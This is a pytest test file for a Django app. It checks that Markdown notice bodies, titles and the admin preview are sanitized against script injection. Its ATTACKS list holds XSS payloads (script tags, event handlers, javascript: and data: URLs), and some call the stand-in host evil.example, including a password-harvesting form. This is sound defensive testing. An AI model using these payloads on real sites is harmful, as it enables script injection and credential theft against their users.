"""Notice bodies are Markdown written by staff; whatever they contain, no script ever reaches a reader."""

import re
from html.parser import HTMLParser

import pytest
from django.test import Client

from notices.rendering import render_markdown

from ..factories import NoticeFactory

ATTACKS = [
    "<script>alert('x')</script>",
    '<img src="x" onerror="alert(1)">',
    '<p><a href="javascript:alert(1)" onclick="steal()">click</a></p>',
    '<p><a href="jav&#x09;ascript:alert(1)">tab inside the scheme</a></p>',
    '<div><script src="https://evil.example/x.js"></script></div>',
    "<img src=x onerror=alert('x')>",
    "[click](javascript:alert('x'))",
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href=" javascript:alert(1)">click</a>',
    "<svg onload=alert('x')><circle r=1></svg>",
    "<iframe src=https://evil.example></iframe>",
    "<style>body{display:none}</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<form action="https://evil.example"><input name=pw></form>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<p onclick="alert(1)">x</p>',
    "<object data=x></object><embed src=x>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
]
ACTIVE_TAGS = {"script", "style", "iframe", "svg", "form", "input", "object", "embed", "meta", "link", "base"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href"}
SAFE_SCHEMES = {"http", "https", "mailto", "tel"}


def _scheme(url: str) -> str | None:
    """The scheme a browser would see (it ignores whitespace and control characters inside it); None if relative."""
    compact = re.sub(r"[\x00-\x20]", "", url or "").lower()
    match = re.match(r"([a-z][a-z0-9+.\-]*):", compact)
    return match.group(1) if match else None


class _Elements(HTMLParser):
    """What a browser would build from the HTML: elements and their attributes (text stays text)."""

    def __init__(self):
        super().__init__()
        self.found: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def _dangers(html: str) -> list[str]:
    parser = _Elements()
    parser.feed(html)
    problems = []
    for tag, attrs in parser.found:
        if tag in ACTIVE_TAGS:
            problems.append(f"<{tag}>")
        for name, value in attrs.items():
            if name.startswith("on") or name == "style":
                problems.append(f"{tag} {name}")
            if name in URL_ATTRIBUTES and _scheme(value) not in SAFE_SCHEMES | {None}:
                problems.append(f"{tag} {name}={value}")
    return problems


@pytest.mark.parametrize("attack", ATTACKS)
def test_render_removes_every_way_to_run_code(attack):
    html = render_markdown(f"Before\n\n{attack}\n\nAfter")

    assert _dangers(html) == []
    assert "javascript:" not in html.lower()
    assert "Before" in html and "After" in html


def test_the_checker_itself_sees_an_attack():
    found = _dangers("<img src=x onerror=alert(1)><a href='javascript:x'>")

    assert sorted(found) == ["a href=javascript:x", "img onerror"]


def test_script_and_style_content_is_dropped_not_shown():
    html = render_markdown("<script>var secret = 1;</script><style>.x{}</style>Text")

    assert "secret" not in html and ".x{}" not in html
    assert "Text" in html


def test_markdown_formatting_survives():
    html = render_markdown(
        "# Title\n\n**bold** and *italic*\n\n- one\n- two\n\n| a | b |\n|:-:|---|\n| 1 | 2 |\n\n"
        "> quoted\n\n[site](https://portal.example/path?x=1) [mail](mailto:registrar@portal.invalid)"
    )

    assert "<h2>Title</h2>" in html  # the page title is the only <h1>
    assert "<strong>bold</strong>" in html and "<em>italic</em>" in html
    assert "<li>one</li>" in html
    assert '<th align="center">a</th>' in html and "<td>2</td>" in html
    assert "<blockquote>" in html
    assert '<a href="https://portal.example/path?x=1" rel="noopener noreferrer">site</a>' in html
    assert 'href="mailto:registrar@portal.invalid"' in html


def test_an_empty_body_renders_nothing():
    assert render_markdown("  \n ") == ""


def test_the_notice_page_never_contains_the_attack(db):
    notice = NoticeFactory(
        title_ko="<script>alert('title')</script>제목", title_en="<script>alert('title')</script>Title",
        body_ko="안내\n\n" + "\n\n".join(ATTACKS), body_en="Guide\n\n" + "\n\n".join(ATTACKS),
        author_team_ko="<img src=x onerror=alert(1)>팀", author_team_en="<img src=x onerror=alert(1)>Team",
    )

    for client in (Client(), Client(HTTP_ACCEPT_LANGUAGE="en")):
        detail = client.get(f"/notices/{notice.pk}/").content.decode()
        body = detail.split('id="notice-body"', 1)[1].split('<p class="mt-4">', 1)[0]
        assert "안내" in body or "Guide" in body
        assert _dangers("<div " + body) == []
        assert "javascript:" not in body.lower()
        for page in (detail, client.get("/notices/").content.decode(), client.get("/").content.decode()):
            assert "<script>alert" not in page  # titles and team names are text, escaped
            assert "<img src=x" not in page
            assert "&lt;script&gt;alert(&#x27;title&#x27;)&lt;/script&gt;" in page


def test_titles_are_shown_as_text(db):
    notice = NoticeFactory(title_en="<b>Bold?</b>")

    page = Client(HTTP_ACCEPT_LANGUAGE="en").get(f"/notices/{notice.pk}/").content.decode()

    assert "&lt;b&gt;Bold?&lt;/b&gt;" in page
    assert "<b>Bold?</b>" not in page


def test_the_admin_preview_is_sanitized_too(db, notice_editor_client):
    notice = NoticeFactory(body_ko="미리보기 <script>alert('x')</script><img src=x onerror=alert(1)>")

    page = notice_editor_client.get(f"/admin/notices/notice/{notice.pk}/change/").content.decode()

    preview = page.split('class="notice-preview"', 1)[1].split("</div>", 1)[0]
    assert "미리보기" in preview
    assert _dangers("<div " + preview) == []
    assert "<script" not in preview
